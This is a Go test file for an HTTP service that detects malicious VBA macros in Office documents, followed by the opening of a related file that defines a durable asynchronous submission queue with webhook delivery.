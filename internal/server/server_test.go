package server

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"repro/internal/cfb"
	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/telemetry"
)

// testFixture holds a trained detector, a saved model file and synthetic
// documents, built once for the whole package.
var testFixture = struct {
	once      sync.Once
	det       *core.Detector
	modelPath string
	macroDoc  []byte // a document containing at least one significant macro
	plainDoc  []byte // a valid container with no VBA project
	docs      [][]byte
	names     []string
	err       error
}{}

func fixture(t *testing.T) *core.Detector {
	t.Helper()
	testFixture.once.Do(func() {
		fail := func(err error) { testFixture.err = err }
		spec := corpus.SmallSpec()
		spec.BenignMacros, spec.BenignObfuscated = 120, 20
		spec.MaliciousMacros, spec.MaliciousObfuscated = 60, 55
		spec.BenignMaxLen = 4000
		d := corpus.GenerateMacros(spec)
		det, err := core.NewDetector(core.AlgoRF, core.FeatureSetV, 7)
		if err != nil {
			fail(err)
			return
		}
		if err := det.Train(d.Sources(), d.Labels()); err != nil {
			fail(err)
			return
		}
		blob, err := det.SaveModel()
		if err != nil {
			fail(err)
			return
		}
		dir, err := os.MkdirTemp("", "vbadetectd-test")
		if err != nil {
			fail(err)
			return
		}
		testFixture.modelPath = filepath.Join(dir, "model.json")
		if err := os.WriteFile(testFixture.modelPath, blob, 0o644); err != nil {
			fail(err)
			return
		}
		files, err := d.BuildFiles()
		if err != nil {
			fail(err)
			return
		}
		for _, f := range files {
			testFixture.docs = append(testFixture.docs, f.Data)
			testFixture.names = append(testFixture.names, f.Name)
			if testFixture.macroDoc == nil {
				if rep, err := det.ScanFile(f.Data); err == nil && len(rep.Macros) > 0 {
					testFixture.macroDoc = f.Data
				}
			}
		}
		if testFixture.macroDoc == nil {
			fail(fmt.Errorf("no fixture document produced macros"))
			return
		}
		b := cfb.NewBuilder()
		if err := b.AddStream("WordDocument", []byte("plain text")); err != nil {
			fail(err)
			return
		}
		raw, err := b.Bytes()
		if err != nil {
			fail(err)
			return
		}
		testFixture.plainDoc = raw
		testFixture.det = det
	})
	if testFixture.err != nil {
		t.Fatal(testFixture.err)
	}
	return testFixture.det
}

func quietConfig() Config {
	return Config{Logger: slog.New(slog.NewTextHandler(io.Discard, nil))}
}

func newTestServer(t *testing.T, cfg Config) (*Server, *httptest.Server) {
	t.Helper()
	det := fixture(t)
	if cfg.Logger == nil {
		cfg.Logger = quietConfig().Logger
	}
	srv := New(det, cfg)
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(ts.Close)
	return srv, ts
}

func postScan(t *testing.T, url string, body []byte) (*http.Response, ScanResponse) {
	t.Helper()
	resp, err := http.Post(url+"/v1/scan", "application/octet-stream", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var sr ScanResponse
	if err := json.NewDecoder(resp.Body).Decode(&sr); err != nil {
		t.Fatalf("decoding response: %v", err)
	}
	return resp, sr
}

// TestScanSingleRaw posts a raw document body and checks the report plus
// the metric counters it must move.
func TestScanSingleRaw(t *testing.T) {
	srv, ts := newTestServer(t, quietConfig())
	resp, sr := postScan(t, ts.URL, testFixture.macroDoc)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status = %d, want 200", resp.StatusCode)
	}
	if sr.Report == nil || len(sr.Report.Macros) == 0 {
		t.Fatalf("report missing macros: %+v", sr)
	}
	if sr.Stages == nil {
		t.Fatal("no stage timings in response")
	}
	if sr.RequestID == "" {
		t.Error("no request id in response")
	}
	if resp.Header.Get("X-Request-ID") == "" {
		t.Error("no X-Request-ID response header")
	}
	m := srv.Metrics()
	if m.Scans.Value() != 1 {
		t.Errorf("scans = %d, want 1", m.Scans.Value())
	}
	if m.Macros.Value() == 0 {
		t.Error("macros counter is zero after a macro scan")
	}
	for name, h := range map[string]*telemetry.Histogram{
		"extract": m.StageExtract, "featurize": m.StageFeaturize,
		"classify": m.StageClassify, "request": m.RequestLatency,
		"queue_wait": m.QueueWait,
	} {
		if h.Count() == 0 {
			t.Errorf("%s histogram empty after a scan", name)
		}
	}
}

// TestScanMultipart posts the document as a multipart file part and checks
// the filename is echoed.
func TestScanMultipart(t *testing.T) {
	_, ts := newTestServer(t, quietConfig())
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	fw, err := mw.CreateFormFile("file", "invoice.docm")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := fw.Write(testFixture.macroDoc); err != nil {
		t.Fatal(err)
	}
	mw.Close()
	resp, err := http.Post(ts.URL+"/v1/scan", mw.FormDataContentType(), &buf)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var sr ScanResponse
	if err := json.NewDecoder(resp.Body).Decode(&sr); err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status = %d, want 200", resp.StatusCode)
	}
	if sr.File != "invoice.docm" {
		t.Errorf("file = %q, want invoice.docm", sr.File)
	}
	if sr.Report == nil {
		t.Fatal("no report")
	}
}

// TestScanNoMacros asserts a macro-free container is a 200 with the
// no_macros verdict, not an error.
func TestScanNoMacros(t *testing.T) {
	srv, ts := newTestServer(t, quietConfig())
	resp, sr := postScan(t, ts.URL, testFixture.plainDoc)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status = %d, want 200", resp.StatusCode)
	}
	if !sr.NoMacros {
		t.Errorf("no_macros not set: %+v", sr)
	}
	if v := srv.Metrics().Verdicts.Get("no_macros"); v == nil {
		t.Error("no_macros verdict not counted")
	}
}

// TestScanMalformed asserts junk bytes yield 422 with a hostile-taxonomy
// error class (a 26-byte blob dies as a truncated compound-file header).
func TestScanMalformed(t *testing.T) {
	srv, ts := newTestServer(t, quietConfig())
	resp, sr := postScan(t, ts.URL, []byte("definitely not an OLE file"))
	if resp.StatusCode != http.StatusUnprocessableEntity {
		t.Fatalf("status = %d, want 422", resp.StatusCode)
	}
	if sr.ErrorClass != "truncated" && sr.ErrorClass != "malformed" {
		t.Errorf("error_class = %q, want truncated or malformed", sr.ErrorClass)
	}
	if srv.Metrics().Errors.Get(sr.ErrorClass) == nil {
		t.Errorf("%s error not counted", sr.ErrorClass)
	}
}

// TestOversizeBody asserts bodies beyond MaxBodyBytes are rejected 413.
func TestOversizeBody(t *testing.T) {
	cfg := quietConfig()
	cfg.MaxBodyBytes = 1024
	srv, ts := newTestServer(t, cfg)
	resp, err := http.Post(ts.URL+"/v1/scan", "application/octet-stream",
		bytes.NewReader(make([]byte, 4096)))
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Fatalf("status = %d, want 413", resp.StatusCode)
	}
	if srv.Metrics().Errors.Get("oversize") == nil {
		t.Error("oversize error not counted")
	}
}

// TestScanTimeout holds a scan at the gate past the deadline and asserts
// the request returns 504 while the server stays healthy.
func TestScanTimeout(t *testing.T) {
	cfg := quietConfig()
	cfg.ScanTimeout = 50 * time.Millisecond
	srv, ts := newTestServer(t, cfg)
	release := make(chan struct{})
	srv.scanGate = func() { <-release }
	resp, sr := postScan(t, ts.URL, testFixture.macroDoc)
	if resp.StatusCode != http.StatusGatewayTimeout {
		t.Fatalf("status = %d, want 504", resp.StatusCode)
	}
	if sr.ErrorClass != "timeout" {
		t.Errorf("error_class = %q, want timeout", sr.ErrorClass)
	}
	close(release)
	// The orphaned scan goroutine must finish and be drainable.
	drainCtx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := srv.Drain(drainCtx); err != nil {
		t.Fatalf("drain after timeout: %v", err)
	}
	if srv.Metrics().Errors.Get("timeout") == nil {
		t.Error("timeout error not counted")
	}
}

// TestBusy saturates the single slot and asserts the next request gets a
// prompt 429.
func TestBusy(t *testing.T) {
	cfg := quietConfig()
	cfg.MaxInFlight = 1
	cfg.QueueWait = 50 * time.Millisecond
	srv, ts := newTestServer(t, cfg)
	entered := make(chan struct{})
	release := make(chan struct{})
	srv.scanGate = func() {
		entered <- struct{}{}
		<-release
	}
	firstDone := make(chan int, 1)
	go func() {
		resp, _ := postScan(t, ts.URL, testFixture.macroDoc)
		firstDone <- resp.StatusCode
	}()
	<-entered // first request holds the only slot
	resp, _ := postScan(t, ts.URL, testFixture.macroDoc)
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("second request status = %d, want 429", resp.StatusCode)
	}
	close(release)
	if code := <-firstDone; code != http.StatusOK {
		t.Fatalf("first request status = %d, want 200", code)
	}
	if srv.Metrics().Errors.Get("busy") == nil {
		t.Error("busy error not counted")
	}
}

// TestConcurrentScans hammers the endpoint from many goroutines (run
// under -race in CI) and checks every request lands and is counted.
func TestConcurrentScans(t *testing.T) {
	srv, ts := newTestServer(t, quietConfig())
	const n = 24
	var wg sync.WaitGroup
	codes := make([]int, n)
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			doc := testFixture.docs[i%len(testFixture.docs)]
			resp, err := http.Post(ts.URL+"/v1/scan", "application/octet-stream", bytes.NewReader(doc))
			if err != nil {
				return
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			codes[i] = resp.StatusCode
		}(i)
	}
	wg.Wait()
	for i, code := range codes {
		if code != http.StatusOK && code != http.StatusUnprocessableEntity {
			t.Errorf("request %d: status %d", i, code)
		}
	}
	if got := srv.Metrics().Scans.Value(); got != n {
		t.Errorf("scans = %d, want %d", got, n)
	}
}

// TestBatch posts several documents in one multipart request.
func TestBatch(t *testing.T) {
	srv, ts := newTestServer(t, quietConfig())
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	count := 4
	for i := 0; i < count; i++ {
		fw, err := mw.CreateFormFile("file", testFixture.names[i%len(testFixture.names)])
		if err != nil {
			t.Fatal(err)
		}
		if _, err := fw.Write(testFixture.docs[i%len(testFixture.docs)]); err != nil {
			t.Fatal(err)
		}
	}
	mw.Close()
	resp, err := http.Post(ts.URL+"/v1/scan/batch", mw.FormDataContentType(), &buf)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status = %d, want 200", resp.StatusCode)
	}
	var br BatchResponse
	if err := json.NewDecoder(resp.Body).Decode(&br); err != nil {
		t.Fatal(err)
	}
	if len(br.Files) != count {
		t.Fatalf("files = %d, want %d", len(br.Files), count)
	}
	if br.Stats.Files != int64(count) {
		t.Errorf("stats.files = %d, want %d", br.Stats.Files, count)
	}
	if srv.Metrics().Scans.Value() != int64(count) {
		t.Errorf("scans metric = %d, want %d", srv.Metrics().Scans.Value(), count)
	}
}

// TestBatchEmpty asserts a batch with no file parts is a 400.
func TestBatchEmpty(t *testing.T) {
	_, ts := newTestServer(t, quietConfig())
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	if err := mw.WriteField("note", "no files here"); err != nil {
		t.Fatal(err)
	}
	mw.Close()
	resp, err := http.Post(ts.URL+"/v1/scan/batch", mw.FormDataContentType(), &buf)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("status = %d, want 400", resp.StatusCode)
	}
}

// TestMetricsEndpoint scans once and asserts /metrics serves JSON with
// non-zero scan counters and per-stage latency histograms.
func TestMetricsEndpoint(t *testing.T) {
	_, ts := newTestServer(t, quietConfig())
	if resp, _ := postScan(t, ts.URL, testFixture.macroDoc); resp.StatusCode != http.StatusOK {
		t.Fatalf("scan status = %d", resp.StatusCode)
	}
	resp, err := http.Get(ts.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var tree map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&tree); err != nil {
		t.Fatalf("metrics is not valid JSON: %v", err)
	}
	if scans, _ := tree["scans"].(float64); scans == 0 {
		t.Errorf("metrics scans = %v, want > 0", tree["scans"])
	}
	for _, stage := range []string{"stage_extract_seconds", "stage_featurize_seconds", "stage_classify_seconds"} {
		h, _ := tree[stage].(map[string]any)
		if h == nil {
			t.Fatalf("metrics missing %s", stage)
		}
		if count, _ := h["count"].(float64); count == 0 {
			t.Errorf("stage %s count = %v, want > 0", stage, h["count"])
		}
	}
	if _, ok := tree["go_goroutines"]; !ok {
		t.Error("metrics missing go runtime gauges")
	}
}

// TestHealthAndReady checks liveness vs readiness, including draining.
func TestHealthAndReady(t *testing.T) {
	srv, ts := newTestServer(t, quietConfig())
	get := func(path string) int {
		resp, err := http.Get(ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.StatusCode
	}
	if code := get("/healthz"); code != http.StatusOK {
		t.Errorf("healthz = %d, want 200", code)
	}
	if code := get("/readyz"); code != http.StatusOK {
		t.Errorf("readyz = %d, want 200", code)
	}
	srv.BeginShutdown()
	if code := get("/healthz"); code != http.StatusOK {
		t.Errorf("healthz while draining = %d, want 200", code)
	}
	if code := get("/readyz"); code != http.StatusServiceUnavailable {
		t.Errorf("readyz while draining = %d, want 503", code)
	}
	resp, _ := postScan(t, ts.URL, testFixture.macroDoc)
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("scan while draining = %d, want 503", resp.StatusCode)
	}
}

// TestReadyzNoModel asserts a modelless server reports unready.
func TestReadyzNoModel(t *testing.T) {
	fixture(t)
	srv := New(nil, quietConfig())
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	resp, err := http.Get(ts.URL + "/readyz")
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("readyz = %d, want 503", resp.StatusCode)
	}
}

// TestReload boots from the model file and hot-reloads it over HTTP.
func TestReload(t *testing.T) {
	fixture(t)
	cfg := quietConfig()
	srv, err := NewFromModelFile(testFixture.modelPath, cfg)
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	before := srv.Metrics().Reloads.Value()
	resp, err := http.Post(ts.URL+"/v1/admin/reload", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("reload status = %d, want 200", resp.StatusCode)
	}
	var body map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
		t.Fatal(err)
	}
	if body["reloaded"] != true {
		t.Errorf("reloaded = %v, want true", body["reloaded"])
	}
	if got := srv.Metrics().Reloads.Value(); got != before+1 {
		t.Errorf("reloads = %d, want %d", got, before+1)
	}
	// The reloaded model still serves scans.
	if resp, sr := postScan(t, ts.URL, testFixture.macroDoc); resp.StatusCode != http.StatusOK || sr.Report == nil {
		t.Fatalf("scan after reload: status %d, report %v", resp.StatusCode, sr.Report)
	}
}

// TestReloadNoPath asserts reload without a configured model path is 409.
func TestReloadNoPath(t *testing.T) {
	_, ts := newTestServer(t, quietConfig())
	resp, err := http.Post(ts.URL+"/v1/admin/reload", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusConflict {
		t.Fatalf("status = %d, want 409", resp.StatusCode)
	}
}

// TestShutdownDrain is the SIGTERM contract: with a request in flight,
// shutdown flips readiness, Drain blocks until the scan finishes, and the
// held request still completes with its full response.
func TestShutdownDrain(t *testing.T) {
	srv, ts := newTestServer(t, quietConfig())
	entered := make(chan struct{})
	release := make(chan struct{})
	srv.scanGate = func() {
		entered <- struct{}{}
		<-release
	}
	reqDone := make(chan ScanResponse, 1)
	go func() {
		_, sr := postScan(t, ts.URL, testFixture.macroDoc)
		reqDone <- sr
	}()
	<-entered // scan is in flight

	srv.BeginShutdown()
	shortCtx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	if err := srv.Drain(shortCtx); err == nil {
		t.Fatal("Drain returned while a scan was still in flight")
	}

	close(release)
	drainCtx, cancel2 := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel2()
	if err := srv.Drain(drainCtx); err != nil {
		t.Fatalf("drain after release: %v", err)
	}
	sr := <-reqDone
	if sr.Report == nil {
		t.Fatalf("in-flight request lost its response during shutdown: %+v", sr)
	}
}

// TestPanicIsolation forces a panic inside the scan goroutine and asserts
// the server answers 500 instead of crashing. (Pipeline panics from
// malformed documents are additionally isolated one level deeper, in
// scan.ScanOne — covered by the scan package tests.)
func TestPanicIsolation(t *testing.T) {
	srv, ts := newTestServer(t, quietConfig())
	srv.scanGate = func() { panic("malformed document tripped a parser bug") }
	resp, sr := postScan(t, ts.URL, testFixture.macroDoc)
	if resp.StatusCode != http.StatusInternalServerError {
		t.Fatalf("status = %d, want 500", resp.StatusCode)
	}
	if sr.ErrorClass != "panic" {
		t.Errorf("error_class = %q, want panic", sr.ErrorClass)
	}
	if srv.Metrics().Errors.Get("panic") == nil {
		t.Error("panic error not counted")
	}
	// The server must still serve healthz after the panic.
	hresp, err := http.Get(ts.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, hresp.Body)
	hresp.Body.Close()
	if hresp.StatusCode != http.StatusOK {
		t.Errorf("healthz after panic = %d, want 200", hresp.StatusCode)
	}
}

// TestMetricsPrometheus scrapes /metrics?format=prometheus after a scan
// and validates the exposition with the package's own parser: histogram,
// counter and Go-runtime families must all be present.
func TestMetricsPrometheus(t *testing.T) {
	_, ts := newTestServer(t, quietConfig())
	if resp, _ := postScan(t, ts.URL, testFixture.macroDoc); resp.StatusCode != http.StatusOK {
		t.Fatalf("scan status = %d", resp.StatusCode)
	}
	resp, err := http.Get(ts.URL + "/metrics?format=prometheus")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); ct != telemetry.ExpositionContentType {
		t.Errorf("content type = %q", ct)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	sum, err := telemetry.ParseExposition(body)
	if err != nil {
		t.Fatalf("exposition invalid: %v\n%s", err, body)
	}
	for name, typ := range map[string]string{
		"scans":                 "counter",
		"stage_extract_seconds": "histogram",
		"queue_wait_seconds":    "histogram",
		"request_seconds":       "histogram",
		"go_goroutines":         "gauge",
		"scan_files_per_sec":    "gauge",
	} {
		if got := sum.Families[name]; got != typ {
			t.Errorf("family %s = %q, want %q", name, got, typ)
		}
	}
}

// TestScanTraceInline asserts ?trace=1 returns the per-document span tree
// in the response, with the pipeline stages and non-zero durations.
func TestScanTraceInline(t *testing.T) {
	_, ts := newTestServer(t, quietConfig())
	resp, err := http.Post(ts.URL+"/v1/scan?trace=1", "application/octet-stream",
		bytes.NewReader(testFixture.macroDoc))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var sr ScanResponse
	if err := json.NewDecoder(resp.Body).Decode(&sr); err != nil {
		t.Fatal(err)
	}
	if sr.Trace == nil || sr.Trace.Root == nil {
		t.Fatal("no trace in response")
	}
	root := sr.Trace.Root
	if root.Name != "scan" || root.DurNS <= 0 {
		t.Fatalf("malformed root span: %+v", root)
	}
	names := map[string]bool{}
	for _, c := range root.Children {
		names[c.Name] = true
	}
	if !names["extract"] {
		t.Errorf("trace missing extract span: %v", names)
	}
	// An untraced request must not carry a trace.
	if _, sr2 := postScan(t, ts.URL, testFixture.macroDoc); sr2.Trace != nil {
		t.Error("untraced request returned a trace")
	}
}

// TestServerAudit asserts both scan endpoints feed the configured audit
// log with hash-keyed verdict events.
func TestServerAudit(t *testing.T) {
	var buf bytes.Buffer
	var mu sync.Mutex
	cfg := quietConfig()
	cfg.Audit = telemetry.NewAuditLogger(lockedWriter{&mu, &buf}, telemetry.AuditConfig{})
	_, ts := newTestServer(t, cfg)
	if resp, _ := postScan(t, ts.URL, testFixture.macroDoc); resp.StatusCode != http.StatusOK {
		t.Fatalf("scan status = %d", resp.StatusCode)
	}

	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	for i := 0; i < 2; i++ {
		fw, err := mw.CreateFormFile("file", fmt.Sprintf("doc-%d.doc", i))
		if err != nil {
			t.Fatal(err)
		}
		fw.Write(testFixture.docs[i])
	}
	mw.Close()
	resp, err := http.Post(ts.URL+"/v1/scan/batch", mw.FormDataContentType(), &body)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("batch status = %d", resp.StatusCode)
	}

	mu.Lock()
	out := buf.String()
	mu.Unlock()
	lines := 0
	for _, line := range bytes.Split([]byte(out), []byte("\n")) {
		if len(bytes.TrimSpace(line)) == 0 {
			continue
		}
		lines++
		var ev telemetry.AuditEvent
		if err := json.Unmarshal(line, &ev); err != nil {
			t.Fatalf("audit line invalid: %v", err)
		}
		if len(ev.SHA256) != 64 {
			t.Errorf("audit event missing content hash: %+v", ev)
		}
	}
	if lines != 3 {
		t.Errorf("audit lines = %d, want 3 (1 single + 2 batch)", lines)
	}
}

// lockedWriter serializes audit writes so the test can read the buffer
// without racing the scan goroutines that outlive the HTTP response.
type lockedWriter struct {
	mu  *sync.Mutex
	buf *bytes.Buffer
}

func (w lockedWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.buf.Write(p)
}
