// Durable async intake: POST /v1/submit journals a document into a
// crash-safe work queue and returns a ticket immediately; background
// workers drain the queue through the recursive container walker and the
// scan pipeline, publish each verdict exactly once into a results
// directory, and optionally POST it to a caller-supplied webhook.
//
// The durability contract is at-least-once processing with exactly-once
// publication: an accepted submission survives SIGKILL (the queue fsyncs
// enqueues before acknowledging), a crashed worker's job is redelivered
// after its visibility timeout, and the atomic link into the results
// directory guarantees a redelivered job can never publish a second
// verdict or fire a second webhook. Jobs that keep failing are
// dead-lettered — listable and redrivable via the admin endpoints —
// rather than poisoning workers forever.
package server

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"sync"
	"time"

	"repro/internal/core"
	"repro/internal/hostile"
	"repro/internal/queue"
	"repro/internal/scan"
	"repro/internal/telemetry"
)

// IntakeConfig tunes the durable async intake path. Async intake is
// activated by calling Server.StartIntake with a non-empty Dir before
// building the handler.
type IntakeConfig struct {
	// Dir is the intake state directory: the write-ahead journal lives
	// under Dir/queue and published verdicts under Dir/results. Empty
	// disables async intake entirely.
	Dir string
	// Workers is the number of queue-draining scan workers. 0 means 2;
	// negative means accept-only — submissions are journaled but drained
	// by another process or a later restart (tests, staged rollouts).
	Workers int
	// BacklogWatermark fails /readyz once the queue depth exceeds it,
	// taking the node out of rotation before the backlog (and the journal
	// volume behind it) grows without bound. 0 means 1024.
	BacklogWatermark int
	// VisibilityTimeout is how long a dequeued job may go unacknowledged
	// before it is redelivered to another worker. 0 means 60s.
	VisibilityTimeout time.Duration
	// MaxAttempts is the delivery budget before a job is dead-lettered.
	// 0 means 5.
	MaxAttempts int
	// RetryBackoff is the delay before the first redelivery of a failed
	// job, doubling per attempt. 0 means 1s.
	RetryBackoff time.Duration
	// AllowWebhooks permits submissions to register a completion webhook
	// (?webhook= or X-Webhook-URL). Off by default: a daemon POSTing to
	// caller-controlled URLs is request-forgery surface that deployments
	// must opt into.
	AllowWebhooks bool
	// WebhookTimeout caps one webhook delivery attempt. 0 means 10s.
	WebhookTimeout time.Duration
	// NoSync disables the enqueue fsync (tests only — accepted work can
	// then be lost to a crash).
	NoSync bool
}

func (c IntakeConfig) withDefaults() IntakeConfig {
	if c.Workers == 0 {
		c.Workers = 2
	}
	if c.BacklogWatermark <= 0 {
		c.BacklogWatermark = 1024
	}
	if c.WebhookTimeout <= 0 {
		c.WebhookTimeout = 10 * time.Second
	}
	return c
}

// SubmitResponse is the 202 body for an accepted async submission.
type SubmitResponse struct {
	// Ticket identifies the submission; poll /v1/tickets/{ticket}.
	Ticket string `json:"ticket"`
	// Status is "queued" on acceptance.
	Status string `json:"status"`
	// Poll is the ticket's polling URL path.
	Poll string `json:"poll"`
}

// TicketStatus is the poll body while a ticket is still unresolved (once
// resolved, the poll returns the TicketResult instead).
type TicketStatus struct {
	Ticket string `json:"ticket"`
	// Status is "queued", "scanning" or "dead".
	Status string `json:"status"`
	// Error is the dead-letter reason when Status is "dead".
	Error string `json:"error,omitempty"`
	// Attempts is the delivery count for a dead ticket.
	Attempts int `json:"attempts,omitempty"`
}

// TicketResult is the published verdict for one async submission: one
// entry per document the container walker discovered inside it, each with
// its container provenance.
type TicketResult struct {
	Ticket string `json:"ticket"`
	File   string `json:"file"`
	// Status is "done" (documents were scanned, possibly degraded) or
	// "failed" (the whole submission was rejected with a typed error).
	Status string `json:"status"`
	// Degraded marks a partial result: some nested children were lost to
	// corruption or budget limits, or some reports are partial.
	Degraded bool `json:"degraded,omitempty"`
	// Docs holds one outcome per discovered document; File carries the
	// "!"-joined container path for nested documents.
	Docs []ScanResponse `json:"docs,omitempty"`
	// Error and ErrorClass describe a whole-submission failure ("bomb",
	// "malformed", ...) when Status is "failed".
	Error      string `json:"error,omitempty"`
	ErrorClass string `json:"error_class,omitempty"`
	// Attempt is which delivery of the job produced this result.
	Attempt int `json:"attempt"`
	// RequestID echoes the submitting request's X-Request-ID; TraceID is
	// the distributed trace the submission rode in on (stable across
	// redeliveries — the traceparent is journaled with the job).
	RequestID string `json:"request_id,omitempty"`
	TraceID   string `json:"trace_id,omitempty"`
	// QueueMS is the enqueue→dequeue latency; ElapsedMS the worker's
	// processing time.
	QueueMS   float64 `json:"queue_ms"`
	ElapsedMS float64 `json:"elapsed_ms"`
	// Trace is the worker-side span tree (queue wait, scan), present only
	// when the submission asked for it with ?trace=1.
	Trace *telemetry.Trace `json:"trace,omitempty"`
}

// DeadTicketJSON is one dead-lettered submission in the admin listing.
type DeadTicketJSON struct {
	Ticket   string    `json:"ticket"`
	File     string    `json:"file"`
	Reason   string    `json:"reason"`
	Attempts int       `json:"attempts"`
	DeadAt   time.Time `json:"dead_at"`
}

// jobMeta is the opaque blob riding with each queued job.
type jobMeta struct {
	Webhook string `json:"webhook,omitempty"`
	Trace   bool   `json:"trace,omitempty"`
	// RequestID is the submitting HTTP request's ID, carried so the
	// published result and the completion webhook can echo it.
	RequestID string `json:"request_id,omitempty"`
}

// intake owns the async path: the durable queue, the results directory,
// the drain workers and the webhook client.
type intake struct {
	s          *Server
	cfg        IntakeConfig
	q          *queue.Queue
	resultsDir string
	client     *http.Client
	cancel     context.CancelFunc
	wg         sync.WaitGroup
	stopOnce   sync.Once

	published       *telemetry.Counter
	webhookFailures *telemetry.Counter
}

// StartIntake opens the durable intake queue configured in Config.Intake
// and starts its drain workers. A no-op when no intake directory is
// configured. Must be called before Handler so the intake routes are
// registered; Close stops the workers and closes the journal.
func (s *Server) StartIntake() error {
	cfg := s.cfg.Intake
	if cfg.Dir == "" {
		return nil
	}
	if s.intake != nil {
		return errors.New("server: intake already started")
	}
	cfg = cfg.withDefaults()
	resultsDir := filepath.Join(cfg.Dir, "results")
	if err := os.MkdirAll(resultsDir, 0o755); err != nil {
		return fmt.Errorf("server: intake: %w", err)
	}
	q, err := queue.Open(filepath.Join(cfg.Dir, "queue"), queue.Options{
		VisibilityTimeout: cfg.VisibilityTimeout,
		MaxAttempts:       cfg.MaxAttempts,
		RetryBackoff:      cfg.RetryBackoff,
		NoSync:            cfg.NoSync,
	})
	if err != nil {
		return err
	}
	ctx, cancel := context.WithCancel(context.Background())
	in := &intake{
		s:          s,
		cfg:        cfg,
		q:          q,
		resultsDir: resultsDir,
		client:     &http.Client{Timeout: cfg.WebhookTimeout},
		cancel:     cancel,
	}
	in.registerMetrics(s.metrics.Registry())
	s.intake = in
	for i := 0; i < cfg.Workers; i++ {
		in.wg.Add(1)
		go in.worker(ctx)
	}
	if st := q.Stats(); st.Depth > 0 || st.Dead > 0 || st.CorruptRecords > 0 {
		s.log.Info("intake journal replayed",
			"depth", st.Depth, "dead", st.Dead, "corrupt_records", st.CorruptRecords)
	}
	return nil
}

// stopIntake cancels the workers, waits for in-flight jobs and closes the
// journal. Idempotent; a no-op when intake was never started.
func (s *Server) stopIntake() {
	in := s.intake
	if in == nil {
		return
	}
	in.stopOnce.Do(func() {
		in.cancel()
		in.wg.Wait()
		_ = in.q.Close()
	})
}

// intakeNotReady reports why the intake path should fail readiness, or ""
// when it is healthy (or not configured): an unwritable journal volume
// means accepts would start failing, and a backlog past the watermark
// means this node should shed load until its workers catch up.
func (s *Server) intakeNotReady() string {
	in := s.intake
	if in == nil {
		return ""
	}
	if err := in.q.Healthy(); err != nil {
		return "intake journal unwritable: " + err.Error()
	}
	if depth := in.q.Stats().Depth; depth > in.cfg.BacklogWatermark {
		return fmt.Sprintf("intake backlog %d exceeds watermark %d", depth, in.cfg.BacklogWatermark)
	}
	return ""
}

// registerMetrics publishes the queue's depth/age/redelivery/dead-letter
// state on the server's telemetry registry.
func (in *intake) registerMetrics(reg *telemetry.Registry) {
	reg.GaugeFunc("intake_depth", "Accepted submissions waiting for a scan worker.",
		func() float64 { return float64(in.q.Stats().Depth) })
	reg.GaugeFunc("intake_inflight", "Submissions currently held by a worker.",
		func() float64 { return float64(in.q.Stats().InFlight) })
	reg.GaugeFunc("intake_dead", "Dead-lettered submissions awaiting operator redrive.",
		func() float64 { return float64(in.q.Stats().Dead) })
	reg.GaugeFunc("intake_oldest_age_seconds", "Age of the oldest waiting submission.",
